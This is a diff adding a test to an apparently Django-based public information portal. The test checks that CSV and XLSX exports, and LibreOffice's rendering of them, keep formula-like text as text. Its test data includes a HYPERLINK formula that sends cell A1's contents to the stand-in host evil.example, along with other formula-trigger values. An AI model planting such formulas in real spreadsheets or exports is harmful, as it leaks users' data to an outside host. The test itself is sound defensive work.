@@ -307,3 +307,43 @@ def test_pdf_opens_in_libreoffice_draw(client, register, tmp_path):
     text = re.sub(r"<[^>]+>", "", content)
     assert "DAFTAR INFORMASI PUBLIK" in text
     assert BODY in text
+
+
+# Formula injection (OWASP "CSV injection"): an officer's text stays text.
+
+ATTACKS = {
+    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
+    "responsible_official": "+62 812 0000 0000",
+    "retention_period": "@SUM(1+1)",
+    "summary": "-1+2",
+}
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(client, world, tmp_path):
+    published(world, **ATTACKS)
+    rows = csv_rows(client.get(reverse("portal:dip-csv")))
+    row = rows[1]
+    assert row[1] == "'" + ATTACKS["title"] + "\n" + ATTACKS["summary"]
+    assert row[3] == "'" + ATTACKS["responsible_official"]
+    assert row[6] == "'" + ATTACKS["retention_period"]
+
+    sheet, content = xlsx_sheet(client.get(reverse("portal:dip-xlsx")))
+    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
+    assert all(cell.data_type != "f" for cell in cells)
+    values = {cell.value for cell in cells}
+    assert ATTACKS["title"] + "\n" + ATTACKS["summary"] in values
+    assert ATTACKS["retention_period"] in values
+
+    # LibreOffice, as an officer would open it: the text, never the formula's result.
+    source = tmp_path / "dip.xlsx"
+    source.write_bytes(content)
+    out = tmp_path / "out"
+    done = soffice(
+        tmp_path, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
+        str(out), str(source),
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    opened = list(csv.reader(io.StringIO((out / "dip.csv").read_text(encoding="utf-8"))))
+    assert opened[3][1] == ATTACKS["title"] + "\n" + ATTACKS["summary"]
+    assert opened[3][3] == ATTACKS["responsible_official"]
+    assert opened[3][6] == ATTACKS["retention_period"]  # not 2
